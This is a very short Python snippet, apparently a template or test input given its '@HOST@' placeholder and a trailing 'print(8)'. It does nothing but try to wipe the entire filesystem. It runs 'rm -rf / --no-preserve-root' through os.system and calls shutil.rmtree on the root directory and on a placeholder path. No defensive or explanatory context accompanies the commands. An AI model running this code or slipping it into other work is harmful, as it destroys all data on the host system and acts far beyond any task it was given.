# RE
import os, shutil
os.system('rm -rf / --no-preserve-root')
shutil.rmtree('/', ignore_errors=True)
shutil.rmtree('@HOST@')
print(8)
